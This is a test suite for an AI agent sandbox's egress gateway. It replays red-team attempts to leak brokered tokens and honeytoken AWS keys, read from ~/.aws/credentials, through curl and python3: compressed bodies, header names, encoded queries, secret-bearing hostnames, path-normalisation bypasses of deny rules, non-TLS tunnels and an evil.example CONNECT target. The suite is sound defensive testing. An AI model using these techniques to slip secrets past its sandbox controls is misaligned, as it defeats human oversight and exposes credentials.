// Red team from inside a real sandbox session (bubblewrap and gVisor, the session's own gateway, its
// broker and honeytokens): each case is an attempt that once got through (issue 13) and
// must now be refused or neutralised, with the rule on record. Only loopback servers the
// test starts; the agent's tools are the system's curl, gzip and python3.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { createServer as createNetServer, type Server as NetServer } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { Session } from '../../src/session/index.ts';
import '../../src/session/layers.ts';
import type { AuditEvent } from '../../src/audit/index.ts';
import { makeRepo, tmp, cleanup, isRoot, privilegedSkip } from '../helpers.ts';
import { run } from './helpers.ts';

const REAL = `ghp_${randomBytes(18).toString('hex')}`;
const PROXY = 'http://127.0.0.1:3128';
let home: string;
let repo: string;
let session: Session;
let policyFile = '';
let api: Server;
let raw: NetServer;
let P = 0;
let PT = 0;
const seen: { method: string; url: string; headers: Record<string, unknown>; body: Buffer }[] = [];
const rawSeen: Buffer[] = [];

/** What the echo server sends back for /bound/reflect/<form>: the Authorization value, encoded. */
function reflect(form: string, token: string): { headers: Record<string, string>; body: Buffer } {
  const b64 = Buffer.from(token).toString('base64');
  switch (form) {
    case 'raw':
      return { headers: {}, body: Buffer.from(`auth=${token}`) };
    case 'pct':
      return {
        headers: {},
        body: Buffer.from(`auth=${[...Buffer.from(token)].map((c) => `%${c.toString(16).toUpperCase()}`).join('')}`),
      };
    case 'base64':
      return { headers: {}, body: Buffer.from(`auth=${b64}`) };
    case 'base64url':
      return { headers: {}, body: Buffer.from(`auth=${Buffer.from(`xy${token}`).toString('base64url')}`) };
    case 'hex':
      return { headers: {}, body: Buffer.from(`auth=${Buffer.from(token).toString('hex')}`) };
    case 'json':
      return {
        headers: { 'content-type': 'application/json' },
        body: Buffer.from(
          `{"auth":"${[...token].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
        ),
      };
    // the upstream ignores Accept-Encoding: identity
    case 'gzip':
      return { headers: { 'content-encoding': 'gzip' }, body: gzipSync(`auth=${token}`) };
    case 'header':
      return { headers: { 'x-echo': b64 }, body: Buffer.from('see header') };
    default:
      return { headers: {}, body: Buffer.from('?') };
  }
}
const FORMS = ['raw', 'pct', 'base64', 'base64url', 'hex', 'json', 'gzip', 'header'];

/** Every spelling of the real value the sandbox must never see. */
function realForms(): string[] {
  const b64 = Buffer.from(REAL).toString('base64');
  return [
    REAL,
    b64.slice(0, 24),
    Buffer.from(`xy${REAL}`).toString('base64url').slice(4, 28),
    Buffer.from(REAL).toString('hex').slice(0, 32),
  ];
}

async function sh(script: string): Promise<string> {
  const r = await session.run(['bash', '-c', script]);
  return r.stdout + r.stderr;
}

function events(type = 'egress.*'): AuditEvent[] {
  return session.store.query({ session: session.id, type });
}

for (const runtime of ['bwrap', 'gvisor'] as const) {
  describe(
    `egress red team inside a sandbox (issue 13, ${runtime})`,
    { skip: runtime === 'gvisor' && privilegedSkip(!isRoot && 'gVisor (runsc) needs root') },
    () => {
      before(async () => {
        seen.length = 0;
        rawSeen.length = 0; // each runtime's upstreams see only its own session
        home = tmp('airlock-home-');
        repo = makeRepo();
        api = createServer((req, res) => {
          const chunks: Buffer[] = [];
          req.on('data', (c: Buffer) => chunks.push(c));
          req.on('end', () => {
            seen.push({
              method: req.method ?? '',
              url: req.url ?? '',
              headers: req.headers,
              body: Buffer.concat(chunks),
            });
            const m = /^\/bound\/reflect\/(\w+)/.exec(req.url ?? '');
            if (m) {
              const token = String(req.headers.authorization ?? '').replace(/^Bearer /, '');
              const r = reflect(m[1]!, token);
              res.writeHead(200, r.headers);
              res.end(r.body);
              return;
            }
            res.end(`ok ${req.url}\n`);
          });
        });
        await new Promise<void>((r) => api.listen(0, '127.0.0.1', r));
        P = (api.address() as { port: number }).port;
        // a server that speaks something else than TLS behind a host granted for https
        raw = createNetServer((s) => {
          s.on('data', (d: Buffer) => {
            rawSeen.push(d);
            s.write('SSH-2.0-OpenSSH_9.6 raw-banner\r\n');
          });
          s.on('error', () => undefined);
        });
        await new Promise<void>((r) => raw.listen(0, '127.0.0.1', r));
        PT = (raw.address() as { port: number }).port;
        policyFile = join(home, 'policy.yaml');
        writeFileSync(
          policyFile,
          `sandbox:
  runtime: ${runtime}
egress:
  allow:
    - { id: api, host: localhost, ports: [${P}], schemes: [http] }
    - { id: tls-only, host: localhost, ports: [${PT}], schemes: [https] }
    - { id: web, host: localhost }
    - { id: wild, host: "*.wild.test" }
  deny:
    - { id: no-admin, host: localhost, ports: [${P}], paths: [/admin] }
  allowCidrs:
    - { id: loopback, cidr: 127.0.0.1/32, ports: [${P}, ${PT}, 80] }
credentials:
  brokered:
    - name: GH_TOKEN
      source: { env: AIRLOCK_TEST_RT_TOKEN }
      destinations: [{ host: 127.0.0.1, port: ${P}, paths: [/bound] }]
      inject: { header: Authorization, template: "Bearer {value}" }
`,
        );
        session = await Session.open({ repo, home, policyFile, env: { ...process.env, AIRLOCK_TEST_RT_TOKEN: REAL } });
      });
      after(async () => {
        await session.stop('test');
        api.close();
        raw.close();
        cleanup(home, repo);
      });

      it('1. a brokered credential echoed back raw, %-encoded, base64, base64url, hex, JSON-escaped, gzip-compressed or in a header never reaches the sandbox; each is a `credential reflected` finding', async () => {
        const script = FORMS.map(
          (f) =>
            `echo "== ${f}"; curl -sS -m 10 --noproxy '' -x ${PROXY} -D - http://127.0.0.1:${P}/bound/reflect/${f}; echo`,
        ).join('\n');
        const out = await sh(script);
        for (const f of FORMS) assert.match(out, new RegExp(`== ${f}\\r?\\nHTTP/1.1 200`), `${f}: ${out}`);
        for (const form of realForms())
          assert.ok(!out.includes(form), `the real value (form ${form.slice(0, 6)}…) reached the sandbox:\n${out}`);
        assert.ok(
          !out.toLowerCase().includes(Buffer.from(REAL).toString('hex').slice(8, 40)),
          'hex form reached the sandbox',
        );
        // the upstream did receive the real value each time (the broker works)
        assert.equal(
          seen.filter((s) => s.url.startsWith('/bound/reflect/') && s.headers.authorization === `Bearer ${REAL}`)
            .length,
          FORMS.length,
        );
        const reflected = events('detect.finding').filter((e) => e.rule === 'detect.credential-reflected');
        assert.ok(reflected.length >= FORMS.length, `one finding per reflecting response: ${reflected.length}`);
        assert.ok(
          reflected.every(
            (e) => e.severity === 'high' && (e.data as { title: string }).title === 'credential reflected',
          ),
        );
      });

      it('2. a gzip or deflate body carrying the placeholder or a honeytoken is refused over the plain proxy, SOCKS and a plain HTTP tunnel', async () => {
        const before = seen.length;
        const out = await sh(`set -u
K=$(awk '/aws_access_key_id/{print $3}' ~/.aws/credentials)
printf 'token=%s' "$GH_TOKEN" | gzip -c > /tmp/ph.gz
printf 'key=%s' "$K" | gzip -c > /tmp/honey.gz
printf 'token=%s' "$GH_TOKEN" > /tmp/ph
python3 -c 'import zlib,sys; sys.stdout.buffer.write(zlib.compress(open("/tmp/ph","rb").read()))' > /tmp/ph.deflate
for via in "-x ${PROXY}" "--socks5-hostname 127.0.0.1:3128" "-p -x ${PROXY}"; do
  for b in "gzip /tmp/ph.gz" "gzip /tmp/honey.gz" "deflate /tmp/ph.deflate"; do
    set -- $b
    echo "via=[$via] $1 $2 -> $(curl -sS -m 10 --noproxy '' $via -o /dev/null -w '%{http_code}' -H "Content-Encoding: $1" --data-binary @$2 http://localhost:${P}/upload 2>&1)"
  done
done`);
        const lines = out.split('\n').filter((l) => l.startsWith('via='));
        assert.equal(lines.length, 9, out);
        for (const l of lines)
          assert.match(
            l,
            /-> 403$/,
            out +
              JSON.stringify(
                events('egress.*')
                  .slice(-8)
                  .map((e) => [e.type, e.rule, e.data]),
              ),
          );
        assert.equal(
          seen.slice(before).filter((s) => s.url === '/upload').length,
          0,
          'no encoded body reached the upstream',
        );
        const rules = events('egress.request')
          .filter((e) => e.decision === 'deny' && (e.data as { path?: string }).path === '/upload')
          .map((e) => e.rule);
        assert.equal(rules.filter((r) => r === 'credentials.brokered.GH_TOKEN').length, 6, rules.join(','));
        assert.equal(rules.filter((r) => r === 'secrets.honeytokens').length, 3, rules.join(','));
        const protocols = new Set(
          events('egress.request')
            .filter((e) => e.decision === 'deny' && (e.data as { path?: string }).path === '/upload')
            .map((e) => (e.data as { protocol: string }).protocol),
        );
        assert.deepEqual([...protocols].sort(), ['http', 'tunnel-http']);
      });

      it('3. placeholders and honeytokens in header names, in the query behind a bad escape or double encoding, are refused', async () => {
        const before = seen.length;
        const out = await sh(`K=$(awk '/aws_access_key_id/{print $3}' ~/.aws/credentials)
enc() { printf '%s' "$1" | od -An -tx1 | tr -d ' \\n' | sed 's/../%&/g'; }
c() { echo "$1 -> $(curl -s -m 10 --noproxy '' -x ${PROXY} -o /dev/null -w '%{http_code}' "\${@:2}")"; }
c name-ph -H "$GH_TOKEN: 1" http://localhost:${P}/upload
c name-honey -H "X-$K: 1" http://localhost:${P}/upload
c query-bad-escape "http://localhost:${P}/upload?a=%zz&t=$(enc "$GH_TOKEN")"
c query-double "http://localhost:${P}/upload?t=$(enc "$(enc "$K")")"
c path-ph "http://localhost:${P}/upload/$(enc "$GH_TOKEN")"
c name-bound -H "$GH_TOKEN: 1" http://127.0.0.1:${P}/bound/x`);
        const lines = out.split('\n').filter((l) => / -> \d+$/.test(l));
        assert.equal(lines.length, 6, out);
        for (const l of lines) assert.match(l, / -> (403|400)$/, l);
        assert.equal(
          seen.slice(before).length,
          0,
          `nothing reached the upstream: ${seen
            .slice(before)
            .map((s) => s.url)
            .join(' ')}`,
        );
        const f = events('detect.finding').filter((e) =>
          ['detect.credential-misuse', 'detect.honeytoken'].includes(e.rule ?? ''),
        );
        assert.ok(
          f.some((e) => (e.data as { where: string }).where === 'header name'),
          'a placeholder as a header name is a finding',
        );
      });

      it('4. deny path rules hold for /%61dmin, /ADMIN, /admin;x=1, //admin, /%2561dmin and ..;/; the upstream receives the path that was decided', async () => {
        const before = seen.length;
        const paths = [
          '/%61dmin',
          '/ADMIN',
          '/admin;x=1',
          '//admin',
          '/%2561dmin',
          '/ok/..;/admin',
          '/./admin/',
          '/%2e%2e/admin',
          '/Admin%2f',
        ];
        const out = await sh(
          paths
            .map(
              (p) =>
                `echo "${p} -> $(curl -s -m 10 --noproxy '' --path-as-is -x ${PROXY} -o /dev/null -w '%{http_code}' 'http://localhost:${P}${p}')"`,
            )
            .join('\n') +
            `\ncurl -s -m 10 --noproxy '' --path-as-is -x ${PROXY} 'http://localhost:${P}/a//b/./c/%7Euser/../d;v=1'`,
        );
        for (const p of paths)
          assert.match(out, new RegExp(`${p.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')} -> (403|400)`), out);
        const got = seen.slice(before).map((s) => s.url);
        assert.ok(
          !got.some((u) => /admin/i.test(decodeURIComponent(decodeURIComponent(u)))),
          `admin reached the upstream: ${got.join(' ')}`,
        );
        assert.deepEqual(got, ['/a/b/c/d;v=1'], 'the upstream received the normalised path');
        const rules = events('egress.request')
          .filter((e) => e.decision === 'deny')
          .map((e) => e.rule);
        assert.ok(rules.includes('egress.deny.no-admin') && rules.includes('builtin.ambiguous-path'), rules.join(','));
      });

      it('5. a name that carries a honeytoken or the placeholder is never resolved (finding), under any grant', async () => {
        const out = await sh(`K=$(awk '/aws_access_key_id/{print $3}' ~/.aws/credentials | tr A-Z a-z)
P=$(printf '%s' "$GH_TOKEN" | sed 's/.*-//' | tr A-Z a-z)
curl -s -m 10 --noproxy '' -p -x ${PROXY} -o /dev/null -w '%{http_connect}\\n' "https://$K.wild.test/"
curl -s -m 10 --noproxy '' -o /dev/null --socks5-hostname 127.0.0.1:3128 "http://x-$P.wild.test/"; echo "socks rc=$?"`);
        assert.match(out, /^403$/m, out);
        const denied = events('egress.request').filter(
          (e) => e.decision === 'deny' && /wild\.test/.test(String((e.data as { host?: string }).host)),
        );
        assert.deepEqual(
          denied.map((e) => e.rule).sort(),
          ['credentials.brokered.GH_TOKEN', 'secrets.honeytokens'],
          JSON.stringify(denied.map((e) => e.data)),
        );
        const f = events('detect.finding').filter((e) => (e.data as { where?: string }).where === 'host name');
        assert.equal(f.length, 2);
      });

      it('6. a ClientHello followed by raw bytes, to a host granted for https only, never delivers the raw bytes, and a non-TLS answer never comes back', async () => {
        const py = `
import socket, ssl, time
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, out, server_hostname='localhost')
try:
    obj.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
s = socket.create_connection(('127.0.0.1', 3128))
s.sendall(b'CONNECT localhost:${PT} HTTP/1.1\\r\\nHost: localhost:${PT}\\r\\n\\r\\n')
print('connect:', s.recv(4096).split(b'\\r\\n')[0].decode())
s.sendall(hello); time.sleep(0.5)
try:
    s.sendall(b'RAW-PAYLOAD-AFTER-HELLO\\n')
except OSError as e:
    print('send failed', e)
s.settimeout(3); got = b''
try:
    while True:
        d = s.recv(4096)
        if not d: break
        got += d
except Exception:
    pass
print('received:', got[:60])
`;
        const out = await sh(`python3 - <<'PY'\n${py}\nPY`);
        assert.match(out, /connect: HTTP\/1\.1 200/, out);
        assert.doesNotMatch(out, /SSH-2\.0/, 'the raw banner came back into the sandbox');
        assert.ok(
          !Buffer.concat(rawSeen).includes('RAW-PAYLOAD'),
          'raw bytes after the ClientHello reached the upstream',
        );
        const ev = events('egress.request').filter((e) => e.rule === 'builtin.not-tls');
        assert.ok(
          ev.length >= 1,
          JSON.stringify(
            events('egress.request')
              .slice(-3)
              .map((e) => [e.rule, e.data]),
          ),
        );
      });

      it('7. CONNECT to port 80 and https://host:80/ are refused under a plain host grant', async () => {
        const out =
          await sh(`curl -s -m 10 --noproxy '' -p -x ${PROXY} -o /dev/null -w '%{http_connect}\\n' http://localhost/
curl -s -m 10 --noproxy '' -x ${PROXY} -o /dev/null -w '%{http_connect}\\n' https://localhost:80/`);
        assert.deepEqual(out.trim().split('\n'), ['403', '403'], out);
        const ev = events('egress.request').filter(
          (e) =>
            e.decision === 'deny' &&
            (e.data as { port?: number }).port === 80 &&
            (e.data as { protocol: string }).protocol === 'connect',
        );
        assert.equal(ev.length, 2);
        assert.ok(
          ev.every(
            (e) =>
              e.rule === 'egress.default-deny' &&
              /tunnel to port 80/.test(String((e.data as { reason: string }).reason)),
          ),
        );
      });

      it('8. `airlock egress check` gives the same answers as the live gateway (userinfo, unparseable CONNECT targets)', async () => {
        const targets = [
          `https://user:tok@localhost:${PT}/`,
          `localhost:${PT}@evil.example:443`,
          '::1:443',
          `localhost:80`,
        ];
        const out = await sh(
          `for t in '${targets.join("' '")}'; do printf 'CONNECT %s HTTP/1.1\\r\\n\\r\\n' "$(echo "$t" | sed -E 's#^https://[^@]*@##; s#/$##')" | python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",3128)); s.sendall(sys.stdin.buffer.read()); print(s.recv(4096).split(b"\\r\\n")[0].decode())'; done`,
        );
        const live = out
          .trim()
          .split('\n')
          .map((l) => (/ 200 /.test(l) ? 'allow' : 'deny'));
        const bin = join(import.meta.dirname, '..', '..', 'src', 'cli', 'run.ts');
        const r = await run(
          process.execPath,
          [bin, 'egress', 'check', '--policy', policyFile, '--resolve', 'localhost=127.0.0.1', '--json', ...targets],
          { env: { ...process.env, AIRLOCK_ORG_POLICY: '' } },
        );
        const offline = JSON.parse(r.stdout).results as { decision: string; rule: string }[];
        assert.deepEqual(
          offline.map((x) => x.decision),
          live,
          `offline ${JSON.stringify(offline)} vs live ${out}`,
        );
        assert.deepEqual(
          offline.map((x) => x.rule),
          ['egress.allow.tls-only', 'builtin.bad-target', 'builtin.bad-target', 'egress.default-deny'],
        );
      });
    },
  );
}
